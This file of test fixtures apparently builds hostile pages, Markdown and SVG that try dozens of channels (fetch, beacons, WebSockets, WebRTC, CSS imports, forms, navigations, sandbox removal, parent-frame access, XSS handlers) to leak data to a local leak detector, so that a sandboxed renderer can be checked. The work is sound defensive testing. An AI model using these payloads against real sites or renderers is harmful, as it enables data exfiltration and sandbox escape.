// A page that tries every known channel to send data out, as files of one directory. Each navigation
// that would replace the document has a file of its own.

/** Host names whose lookup must not appear in the browser's network log. */
export const DNS_HOSTS = ['leak-by-prefetch.test', 'leak-by-preconnect.test']

/** Channels that reach the leak detector over HTTP when the page is not sandboxed; the page tries some more. */
export const REQUEST_CHANNELS = [
  'fetch',
  'fetch-no-cors',
  'fetch-keepalive',
  'xhr',
  'websocket',
  'events',
  'beacon',
  'worker',
  'img',
  'srcset',
  'picture',
  'svg-image',
  'input-image',
  'video',
  'audio',
  'icon',
  'script',
  'module',
  'import-script',
  'modulepreload',
  'preload',
  'prefetch',
  'css',
  'css-import',
  'css-background',
  'font',
  'iframe',
  'srcdoc-inner',
  'object',
  'embed',
  'form',
  'open',
  'link-blank',
  'ping',
  'base/base',
]

/** Channels that reach it in datagrams: WebRTC and WebTransport. */
export const DATAGRAM_CHANNELS = ['stun', 'quic']

/** Operations that the browser must deny to the running page. */
export const REFUSED = [
  'localStorage',
  'sessionStorage',
  'cookie',
  'indexedDB',
  'caches',
  'opfs',
  'serviceWorker',
  'locks',
  'clipboard',
  'parent-document',
  'parent-location',
  'parent-global',
  'top-document',
  'fetch',
  'fetch-no-cors',
  'import-script',
]

/** Operations that are denied to a site on an origin of its own, where storage is allowed. */
export const REFUSED_ON_SITE = [
  'top-document',
  'above-document',
  'clipboard',
  'fetch',
  'fetch-no-cors',
  'import-script',
  'xhr',
  'websocket',
  'open',
  'shell-fetch',
  'shell-socket',
  'own-worker',
  'own-worker-again',
  'shell-worker',
  'own-socket',
  'app-fetch',
  'neighbour-fetch',
  'serviceWorker',
]

/** Navigations that only a site can try, because the document around it has the same origin. */
export const SITE_NAVIGATIONS = ['shell-location', 'shell-link', 'unsealed', 'neighbour', 'shell-query', 'unregistered']

/** Navigations of the document itself, one file each. */
export const NAVIGATIONS = ['location', 'meta-refresh', 'link-click', 'form-submit', 'top-location', 'history']

/** The files of the hostile page, by path. */
export function hostileFiles(leakDetector) {
  const files = { 'index.html': everything(leakDetector) }
  for (const way of NAVIGATIONS) files[`${way}.html`] = navigation(way, leakDetector)
  return files
}

/** The same as a site, with the attempts that only a site can make. */
export function hostileSiteFiles(leakDetector) {
  const files = { ...hostileFiles(leakDetector), 'index.html': everything(leakDetector, { withCalls: false }) }
  for (const way of [...SITE_NAVIGATIONS, 'calls']) files[`${way}.html`] = siteNavigation(way, leakDetector)
  return { ...files, 'folder/file.txt': 'words' }
}

/** The attempts that work in markup alone, without scripts. */
function markup(at) {
  return `
<link rel="stylesheet" href="${at('css')}">
<style>
  @import url("${at('css-import')}");
  @font-face { font-family: leak; src: url("${at('font')}"); }
  body { background-image: url("${at('css-background')}"); font-family: leak; }
</style>
<link rel="prefetch" href="${at('prefetch')}">
<link rel="preload" as="image" href="${at('preload')}">
<link rel="modulepreload" href="${at('modulepreload')}">
<link rel="manifest" href="${at('manifest')}">
<link rel="icon" href="${at('icon')}">
<link rel="preconnect" href="//${DNS_HOSTS[1]}">
<link rel="dns-prefetch" href="//${DNS_HOSTS[0]}">
<body>
<p>Words in the font that is to be fetched.</p>
<img src="${at('img')}" alt="">
<img srcset="${at('srcset')} 1x" alt="">
<picture><source srcset="${at('picture')}"><img alt=""></picture>
<iframe src="${at('iframe')}"></iframe>
<iframe srcdoc="&lt;img src='${at('srcdoc-inner')}'&gt;"></iframe>
<object data="${at('object')}"></object>
<embed src="${at('embed')}">
<video src="${at('video')}" preload="auto" autoplay muted></video>
<audio src="${at('audio')}" preload="auto"></audio>
<video controls><track default src="${at('track')}"></video>
<input type="image" src="${at('input-image')}" alt="">
<svg width="9" height="9"><image href="${at('svg-image')}" width="9" height="9"/><use href="${at('svg-use')}#x"/></svg>
<script src="${at('script')}"></script>
<script type="module" src="${at('module')}"></script>
<form id="form" action="${at('form')}" target="_blank"><input name="private" value="data"></form>
<a id="blank" target="_blank" href="${at('link-blank')}">A link</a>
<a id="pinging" href="#here" ping="${at('ping')}">A link that tells</a>
`
}

function everything(leakDetector, { withCalls = true } = {}) {
  const at = (channel) => `${leakDetector.url}/leak/${channel}`
  return `<!doctype html>
<html><head><meta charset="utf-8"><title>Hostile</title>
${markup(at)}
<p id="progress">trying</p>
<script>
const at = (channel) => '${leakDetector.url}/leak/' + channel
const seen = {}
const tries = []
const attempt = (name, run) => {
  tries.push((async () => {
    try { seen[name] = String(await Promise.race([run(), new Promise((r) => setTimeout(r, 1500, 'no answer'))])) }
    catch (error) { seen[name] = 'refused: ' + error.name }
  })())
}
const event = (target, ...names) => new Promise((r) => names.forEach((n) => target.addEventListener(n, () => r(n))))

// In Firefox, a form that the policy of a site forbids throws an exception.
try { document.getElementById('form').submit() } catch {}
document.getElementById('blank').click()
document.getElementById('pinging').click()
attempt('fetch', () => fetch(at('fetch')))
attempt('fetch-no-cors', () => fetch(at('fetch-no-cors'), { mode: 'no-cors', method: 'POST', body: 'private' }))
attempt('fetch-keepalive', () => fetch(at('fetch-keepalive'), { mode: 'no-cors', keepalive: true }))
attempt('xhr', () => { const x = new XMLHttpRequest(); x.open('GET', at('xhr')); x.send(); return event(x, 'load', 'error') })
attempt('import-script', () => import(at('import-script')))
attempt('websocket', () => event(new WebSocket(at('websocket').replace('http', 'ws')), 'open', 'error'))
attempt('events', () => event(new EventSource(at('events')), 'open', 'error'))
attempt('beacon', async () => navigator.sendBeacon(at('beacon'), 'private'))
attempt('open', async () => open(at('open')) === null ? 'null' : 'a window')
attempt('worker', async () => {
  const body = 'fetch("' + at('worker') + '", { mode: "no-cors" }).then(() => postMessage("sent"), () => postMessage("refused"))'
  const worker = new Worker(URL.createObjectURL(new Blob([body], { type: 'text/javascript' })))
  return event(worker, 'message', 'error')
})
attempt('shared-worker', async () => event(new SharedWorker(at('shared-worker')), 'error'))
attempt('report', async () => {
  const meta = document.createElement('meta')
  meta.httpEquiv = 'Content-Security-Policy-Report-Only'
  meta.content = "img-src 'none'; report-uri " + at('report')
  document.head.append(meta)
})
${withCalls ? calls(leakDetector) : ''}
attempt('webtransport', async () => { const t = new WebTransport('https://127.0.0.1:${leakDetector.udpPort}/'); await t.ready; return 'open' })
attempt('localStorage', async () => { localStorage.setItem('leak', '1'); return 'stored' })
attempt('sessionStorage', async () => { sessionStorage.setItem('leak', '1'); return 'stored' })
attempt('cookie', async () => { document.cookie = 'leak=1'; return document.cookie.includes('leak') ? 'stored' : 'not kept' })
attempt('indexedDB', async () => { const r = indexedDB.open('leak'); const how = await event(r, 'success', 'error'); return how === 'success' ? 'stored' : how })
attempt('caches', async () => { await caches.open('leak'); return 'stored' })
attempt('opfs', async () => { await navigator.storage.getDirectory(); return 'stored' })
attempt('serviceWorker', async () => { await navigator.serviceWorker.register('/assets/worker.js'); return 'stored' })
attempt('locks', async () => { await navigator.locks.request('leak', async () => {}); return 'locked' })
attempt('broadcast', async () => { new BroadcastChannel('watchfire').postMessage('leak'); return 'posted' })
attempt('parent-document', async () => parent.document.title)
attempt('parent-location', async () => parent.location.href)
attempt('parent-global', async () => { parent.pwned = true; return 'written' })
attempt('top-document', async () => top.document.body.innerHTML.length)
const onward = new URLSearchParams({ leak: '1' })
const other = 'http://bafkreigh2akiscaildcqabsyg3dfr6chu3fgpregiymsck7e7aqa4s52zy.' + location.host.replace(/^[^.]*\\./, '')
attempt('above-document', async () => parent.parent.document.title)
attempt('shell-fetch', () => parent.fetch(at('shell-fetch'), { mode: 'no-cors' }))
attempt('shell-beacon', async () => parent.navigator.sendBeacon(at('shell-beacon'), 'private'))
attempt('shell-image', async () => { const image = new parent.Image(); image.src = at('shell-image'); return event(image, 'load', 'error') })
attempt('shell-socket', () => event(new parent.WebSocket(at('shell-socket').replace('http', 'ws')), 'open', 'error'))
attempt('own-worker', () => navigator.serviceWorker.register('/leak.js?' + onward))
attempt('own-worker-again', () => navigator.serviceWorker.register('/.watchfire/worker.js?' + onward, { scope: '/leak/' }))
attempt('shell-worker', () => parent.navigator.serviceWorker.register('/.watchfire/worker.js?' + onward, { scope: '/leak/' }))
attempt('own-socket', () => event(new WebSocket('ws://' + location.host + '/leak'), 'open', 'error'))
attempt('own-poll', () => fetch('/socket/longpoll?vsn=2.0.0').then((r) => r.status))
attempt('app-fetch', () => fetch('http://localhost:' + location.port + '/limits'))
attempt('neighbour-fetch', () => fetch(other, { mode: 'no-cors' }))
attempt('shell-hints', async () => {
  for (const [rel, host] of [['dns-prefetch', '${DNS_HOSTS[0]}'], ['preconnect', '${DNS_HOSTS[1]}']]) {
    const link = parent.document.createElement('link')
    link.rel = rel
    link.href = 'http://' + host
    parent.document.head.append(link)
  }
  return 'hinted'
})
attempt('download', async () => {
  const a = document.createElement('a')
  a.href = 'data:text/plain,leak'
  a.download = 'leak.txt'
  document.body.append(a)
  a.click()
  return 'clicked'
})
attempt('clipboard', async () => { await navigator.clipboard.readText(); return 'read' })
attempt('alert', async () => { alert('leak'); return 'asked' })
attempt('messages', async () => {
  // Messages that the app itself listens for, and others; none may change the app.
  for (const data of ['frame-ready', { kind: 'frame-ready' }, { html: '<h1>mine</h1>' }, { kind: 'navigate', to: '/' }]) parent.postMessage(data, '*')
  top.postMessage({ html: '<h1>mine</h1>' }, '*')
  return 'sent'
})
attempt('base', async () => {
  const base = document.createElement('base')
  base.href = at('base') + '/'
  document.head.append(base)
  const image = new Image()
  image.src = 'base'
  const done = event(image, 'load', 'error')
  return done.then((how) => { base.remove(); return how })
})
Promise.all(tries).then(() => {
  document.getElementById('progress').textContent = 'tried ' + JSON.stringify(seen)
})
</script>
</body></html>`
}

/** Tries to connect by WebRTC. */
function calls(leakDetector) {
  return `
attempt('webrtc', async () => {
  const connection = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${leakDetector.udpPort}' }] })
  connection.createDataChannel('leak')
  const candidates = []
  connection.onicecandidate = (e) => e.candidate && candidates.push(e.candidate.candidate)
  await connection.setLocalDescription(await connection.createOffer())
  if (connection.iceGatheringState !== 'complete') {
    await Promise.race([
      new Promise((r) => { connection.onicegatheringstatechange = () => connection.iceGatheringState === 'complete' && r() }),
      new Promise((r) => setTimeout(r, 2000)),
    ])
  }
  return candidates.length + ' candidates'
})
attempt('shell-webrtc', async () => {
  const connection = new parent.RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${leakDetector.udpPort}' }] })
  connection.createDataChannel('leak')
  await connection.setLocalDescription(await connection.createOffer())
  return 'offered'
})
`
}

function navigation(way, leakDetector) {
  const to = `${leakDetector.url}/leak/${way}`
  const head = '<!doctype html><meta charset="utf-8"><title>Hostile</title>'
  switch (way) {
    case 'location':
      return `${head}<p>going</p><script>location = '${to}'</script>`
    case 'meta-refresh':
      return `${head}<meta http-equiv="refresh" content="0; url=${to}"><p>going</p><script>document.title = 'Going'</script>`
    case 'link-click':
      return `${head}<a id="link" href="${to}">A link that looks good</a><script>document.getElementById('link').click()</script>`
    case 'form-submit':
      return `${head}<form id="form" action="${to}"><input name="private" value="data"><button id="send">Send</button></form><script>document.getElementById('form').submit()</script>`
    case 'top-location':
      return `${head}<a id="link" target="_top" href="${to}">A link that looks good</a><script>try { top.location = '${to}' } catch {}; document.getElementById('link').click()</script>`
    case 'history':
      return `${head}<p>going</p><script>location.replace('${to}'); navigation.navigate('${to}')</script>`
  }
}

function siteNavigation(way, leakDetector) {
  const to = `${leakDetector.url}/leak/${way}`
  const script = {
    calls: `const tries = []
      const attempt = (name, run) => tries.push(run().then(() => {}, () => {}))
      ${calls(leakDetector)}
      Promise.all(tries).then(() => document.body.append('called'))`,
    'shell-location': `parent.location = '${to}'`,
    'shell-link': `const a = parent.document.createElement('a'); a.href = '${to}'; parent.document.body.append(a); a.click()`,
    // Removes the sandbox attribute of its own frame, and tries again in a new document.
    unsealed: `const frame = parent.document.querySelector('iframe')
      if (frame.sandbox.contains('allow-scripts') && !frame.hasAttribute('data-again')) {
        frame.setAttribute('data-again', '')
        frame.removeAttribute('sandbox')
        location.reload()
      } else { open('${to}'); try { top.location = '${to}' } catch {}; location = '${to}' }`,
    neighbour: `location = 'http://bafkreigh2akiscaildcqabsyg3dfr6chu3fgpregiymsck7e7aqa4s52zy.localhost:' + location.port + '/?leak'`,
    // Without its worker, requests of the document would go to its own host.
    unregistered: `navigator.serviceWorker.getRegistrations().then(async (all) => {
      for (const one of all) await one.unregister()
      location = '/leak?after=' + all.length
    })`,
    'shell-query': `parent.location = '/.watchfire/shell?leak'`,
  }[way]
  return `<!doctype html><meta charset="utf-8"><title>Hostile</title><p>going</p><a id="link" href="${to}">A link</a><script>${script}</script>`
}

/** Markdown with every construct that must not be rendered. */
export function hostileMarkdown(leakDetector) {
  const at = (channel) => `${leakDetector.url}/leak/${channel}`
  return `# Innocent words

![a picture](${at('md-picture')}) [a link](javascript:fetch('${at('md-javascript')}'))

<img src="${at('md-img')}" onerror="fetch('${at('md-onerror')}')">
<img src="data:," onerror="fetch('${at('md-onerror-data')}')" style="background: url(${at('md-style')})">
<script>fetch('${at('md-script')}')</script>
<style>@import url("${at('md-import')}"); body { background: url("${at('md-background')}") }</style>
<link rel="stylesheet" href="${at('md-css')}"><link rel="dns-prefetch" href="//${DNS_HOSTS[0]}">
<link rel="preconnect" href="http://${DNS_HOSTS[1]}"><meta http-equiv="refresh" content="0; url=${at('md-refresh')}">
<iframe src="${at('md-iframe')}"></iframe><object data="${at('md-object')}"></object><embed src="${at('md-embed')}">
<video src="${at('md-video')}" poster="${at('md-poster')}" autoplay></video><audio src="${at('md-audio')}"></audio>
<svg><image href="${at('md-svg')}"/><script>fetch('${at('md-svg-script')}')</script><use href="${at('md-use')}#x"/></svg>
<math><mtext><table><mglyph><style><img src="${at('md-mxss')}" onerror="fetch('${at('md-mxss-error')}')"></style></mglyph></table></mtext></math>
<form action="${at('md-form')}"><button autofocus onfocus="fetch('${at('md-focus')}')">Send</button></form>
<base href="${at('md-base')}/"><img src="relative.png">
<details open ontoggle="fetch('${at('md-toggle')}')"><summary>More</summary></details>

The end of it.
`
}

/** An SVG picture with the same attempts. */
export function hostileSvg(leakDetector) {
  const at = (channel) => `${leakDetector.url}/leak/${channel}`
  return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="60">
<style>@import url("${at('svg-css')}"); rect { fill: url("${at('svg-fill')}#x") }</style>
<script>fetch('${at('svg-script')}'); parent.pwned = true</script>
<script href="${at('svg-script-src')}"></script>
<image href="${at('svg-image')}" width="9" height="9"/><use xlink:href="${at('svg-use')}#x"/>
<foreignObject width="90" height="60"><img xmlns="http://www.w3.org/1999/xhtml" src="${at('svg-img')}"/></foreignObject>
<rect width="90" height="60" onload="fetch('${at('svg-onload')}')"/>
</svg>`
}
